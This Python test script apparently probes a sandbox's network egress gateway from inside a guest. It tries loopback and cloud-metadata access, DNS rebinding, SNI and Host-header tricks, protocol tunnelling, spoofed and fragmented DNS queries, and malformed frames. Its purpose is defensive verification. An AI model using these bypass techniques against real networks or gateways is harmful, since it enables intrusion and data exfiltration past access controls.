"""Ways past the gateway, tried as root inside a guest.

Defines attacks by name. Each yields `(tried, happened, marker)`: the host asks its servers whether they saw the marker.
The head of the script, which the host adds, sets `target`: addresses and ports of the servers outside.
"""

import json
import os
import socket
import struct
import subprocess
import time

GATEWAY, OWN = "10.83.76.1", "10.83.76.2"
HARDWARE_OWN, HARDWARE_GATEWAY = bytes.fromhex("02534c000002"), bytes.fromhex("02534c000001")
PATIENCE = 10
ALLOWED, STRANGER, PRIVATE, HOST = target["allowed"], target["stranger"], target["private"], "127.0.0.1"
PORT, OTHER_PORT, API_PORT, NAME = target["port"], target["other_port"], target["api_port"], target["name"]
count = 0


def marker():
    """A text that no other attempt sends."""
    global count
    count += 1
    return f"marker-{target['run']}-{count}-end"


def sh(line):
    subprocess.run(line, shell=True, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def leave_loopback():
    """Routes the part of loopback that stands for the internet, and the rest except one address, to the gateway."""
    open("/proc/sys/net/ipv4/conf/all/route_localnet", "w").write("1")
    open("/proc/sys/net/ipv4/conf/eth0/route_localnet", "w").write("1")
    open("/proc/sys/net/ipv4/conf/all/rp_filter", "w").write("0")
    open("/proc/sys/net/ipv4/conf/eth0/rp_filter", "w").write("0")
    try:
        sh("ip route del table local local 127.0.0.0/8 dev lo")
    except subprocess.CalledProcessError:
        pass  # done before
    subprocess.run("ip route del table local local 127.0.0.1 dev lo", shell=True, stderr=subprocess.DEVNULL)
    subprocess.run("ip addr del 127.0.0.1/8 dev lo", shell=True, stderr=subprocess.DEVNULL)
    for net in ("127.66.0.0/16", "127.67.0.0/16", "127.0.0.1/32"):
        sh(f"ip route replace {net} via {GATEWAY} dev eth0 src {OWN}")


def resolve(name):
    return sorted({found[4][0] for found in socket.getaddrinfo(name, PORT, socket.AF_INET, socket.SOCK_STREAM)})


def tcp(address, port, payload):
    """Connects, sends and returns what came back, as text."""
    try:
        with socket.create_connection((address, port), timeout=PATIENCE) as stream:
            stream.sendall(payload)
            stream.settimeout(PATIENCE)
            answer = stream.recv(4096)
            return f"answer {answer[:60]!r}" if answer else "closed without an answer"
    except OSError as error:
        return f"refused: {error}"


def get(host, mark):
    return f"GET /{mark} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


def hello(name, mark):
    """A TLS client hello. The marker is in a padding extension."""
    extensions = b""
    if name is not None:
        entry = b"\0" + struct.pack(">H", len(name)) + name.encode()
        entry = struct.pack(">H", len(entry)) + entry
        extensions += struct.pack(">HH", 0, len(entry)) + entry
    versions = b"\x02\x03\x04"
    extensions += struct.pack(">HH", 43, len(versions)) + versions
    extensions += struct.pack(">HH", 21, len(mark)) + mark.encode()
    body = b"\x03\x03" + bytes(32) + b"\0" + struct.pack(">H", 2) + b"\x13\x01" + b"\x01\0"
    body += struct.pack(">H", len(extensions)) + extensions
    body = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(body)) + body


def control():
    """What the policy allows must work, or the other results mean nothing."""
    deadline = time.monotonic() + 30
    while True:
        try:
            address = resolve(NAME)[0]
            answer = tcp(address, PORT, get(f"{NAME}:{PORT}", "control"))
            if "200" in answer:
                return
        except OSError as error:
            answer = str(error)
        if time.monotonic() > deadline:
            raise SystemExit(f"the allowed name cannot be reached: {answer}")
        time.sleep(0.2)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(payload, protocol, to, source=OWN, flags=0, offset=0):
    head = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, flags << 13 | offset, 64, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(to),
    )
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def udp(port, payload, from_port=5555):
    return struct.pack(">HHHH", from_port, port, 8 + len(payload), 0) + payload


def send_frame(payload, source=HARDWARE_OWN, kind=0x0800):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as card:
        card.bind(("eth0", 0))
        card.send(HARDWARE_GATEWAY + source + struct.pack(">H", kind) + payload)


def datagram(address, port, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(3)
        try:
            datagrams.connect((address, port))
            datagrams.send(payload)
            return f"answer {datagrams.recv(2048)[:60]!r}"
        except OSError as error:
            return f"refused: {error}"


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def addresses():
    """Addresses and ports that the policy does not list."""
    resolve(NAME)
    for address, port in ((STRANGER, PORT), (ALLOWED, OTHER_PORT)):
        mark = marker()
        yield f"HTTP to {address}, port {port}", tcp(address, port, get(NAME, mark)), mark
        mark = marker()
        yield f"a protocol without names to {address}, port {port}", tcp(address, port, f"SSH-2.0-{mark}\r\n".encode()), mark


def closed():
    """A sandbox without a policy reaches nothing."""
    for address in (ALLOWED, STRANGER, HOST, "169.254.169.254"):
        mark = marker()
        yield f"TCP to {address}, port {PORT}", tcp(address, PORT, get(NAME, mark)), mark
    try:
        found = f"answer {resolve(NAME)}"
    except OSError as error:
        found = f"refused: {error}"
    yield f"resolving {NAME}", found, marker()


def private():
    """Everything public is allowed; what is private must stay closed."""
    for address, port in ((HOST, PORT), (HOST, API_PORT), (PRIVATE, PORT)):
        mark = marker()
        yield f"TCP to the host's loopback {address}, port {port}", tcp(address, port, get(address, mark)), mark
        if port == PORT:
            mark = marker()
            yield f"UDP to the host's loopback {address}, port {port}", datagram(address, port, mark.encode()), mark
    for what, address in (("cloud metadata", "169.254.169.254"), ("a local network", "10.0.0.1"), ("a local network", "192.168.0.1")):
        yield f"TCP to {what} {address}, port 80", tcp(address, 80, b""), marker()


def rebinding():
    """Names that a policy allows and whose owner points them at the host."""
    for name in ("loopback", "private", "metadata", "lan"):
        try:
            found = f"answer {resolve(name + '.' + NAME)}"
        except OSError as error:
            found = f"refused: {error}"
        yield f"resolving {name}.{NAME}", found, marker()
    mark = marker()
    yield f"TCP to {HOST} with an allowed name", tcp(HOST, PORT, get(f"loopback.{NAME}:{PORT}", mark)), mark
    flip = f"flip.{NAME}"
    try:
        resolve(flip)
        time.sleep(2.5)
        second = f"answer {found}" if (found := [a for a in resolve(flip) if not a.startswith("127.66.")]) else "refused"
    except OSError as error:
        second = f"refused: {error}"
    yield f"resolving {flip} again when it points at the host", second, marker()


def names():
    """Names that the policy does not list."""
    for name in ("other.test", "stranger.test", f"secret-{target['run']}.other.test"):
        try:
            found = f"answer {resolve(name)}"
        except OSError as error:
            found = f"refused: {error}"
        yield f"resolving {name}", found, marker()
    resolve(NAME)
    for host in ("other.test", f"other.test:{PORT}", "169.254.169.254"):
        mark = marker()
        yield f"HTTP to the allowed address with Host: {host}", tcp(ALLOWED, PORT, get(host, mark)), mark
    mark = marker()
    pipelined = f"GET /fine HTTP/1.1\r\nHost: {NAME}:{PORT}\r\n\r\n".encode() + get("other.test", mark)
    tcp(ALLOWED, PORT, pipelined)
    yield "a second request for another host on an allowed connection", "the server did not see it", mark


def tls():
    """TLS to the allowed address with another server name, or with none."""
    resolve(NAME)
    for what, name in (("another name", "other.test"), ("no name", None)):
        mark = marker()
        yield f"TLS with {what} in its greeting", tcp(ALLOWED, PORT, hello(name, mark)), mark
    mark = marker()
    whole = hello("other.test", mark)
    try:
        with socket.create_connection((ALLOWED, PORT), timeout=PATIENCE) as stream:
            for piece in (whole[:1], whole[1:40], whole[40:]):
                stream.sendall(piece)
                time.sleep(0.3)
            stream.recv(100)
    except OSError:
        pass
    yield "the same greeting in small pieces", "the server did not see it", mark


def datagrams():
    for address, port in ((STRANGER, PORT), (ALLOWED, OTHER_PORT), (STRANGER, 53)):
        mark = marker()
        yield f"UDP to {address}, port {port}", datagram(address, port, mark.encode()), mark
    yield "DNS to another server", datagram("8.8.8.8", 53, question("other.test")), marker()


def other_protocols():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as icmp:
        icmp.settimeout(3)
        echo = struct.pack(">BBHHH", 8, 0, 0, 77, 1) + b"tunnelled"
        echo = echo[:2] + struct.pack(">H", checksum(echo)) + echo[4:]
        icmp.sendto(echo, (STRANGER, 0))
        try:
            kind = icmp.recv(2048)[20]
            seen = "answer" if kind == 0 else f"refused: ICMP type {kind}"
        except OSError as error:
            seen = f"refused: {error}"
        yield f"an ICMP echo request to {STRANGER}", seen, marker()
    for protocol, name in ((4, "IP in IP"), (41, "IPv6 in IP"), (47, "GRE"), (132, "SCTP")):
        mark = marker()
        send_frame(packet(packet(udp(PORT, mark.encode()), 17, STRANGER), protocol, STRANGER))
        yield f"{name} to {STRANGER}", "nothing arrived", mark


def ipv6():
    for address in ("::1", f"::ffff:{STRANGER}", "64:ff9b::7f42:2", "2002:7f42:2::1", "fe80::1"):
        mark = marker()
        datagram6 = udp(PORT, mark.encode())
        head = struct.pack(">IHBB", 6 << 28, len(datagram6), 17, 64)
        head += socket.inet_pton(socket.AF_INET6, "fe80::2") + socket.inet_pton(socket.AF_INET6, address)
        send_frame(head + datagram6, kind=0x86DD)
        yield f"an IPv6 frame to {address}", "nothing arrived", mark


def spoofed():
    """Packets that claim another sender, to the gateway's name server: it passes on what it believes."""
    resolve(NAME)
    for source in ("10.83.76.9", GATEWAY, STRANGER, HOST):
        name = f"{marker()}.{NAME}"
        send_frame(packet(udp(53, question(name)), 17, GATEWAY, source=source))
        yield f"a question from the address {source}", "it was not passed on", name
    name = f"{marker()}.{NAME}"
    send_frame(packet(udp(53, question(name)), 17, GATEWAY), source=bytes.fromhex("02534c0000aa"))
    yield "a question from another hardware address", "it was not passed on", name
    name = f"{marker()}.{NAME}"
    asked = udp(53, question(name))
    send_frame(packet(asked[:16], 17, GATEWAY, flags=1))
    send_frame(packet(asked[16:], 17, GATEWAY, offset=2))
    yield "a question in fragments", "it was not passed on", name


def malformed():
    """Frames that no kernel sends. The gateway must survive them."""
    noise = os.urandom(16_000)
    for length in (0, 1, 20, 33, 60, 1486):
        send_frame(noise[:length])
        send_frame(packet(noise[:length], 6, ALLOWED)[: length + 10])
        send_frame(packet(noise[: min(length, 1000)], 17, GATEWAY))
    control()
    yield "random frames", "the gateway still works", marker()


leave_loopback()
if target["control"]:
    control()
for attack in target["attacks"]:
    for tried, happened, mark in globals()[attack]():
        print(json.dumps({"tried": tried, "happened": happened, "marker": mark}), flush=True)
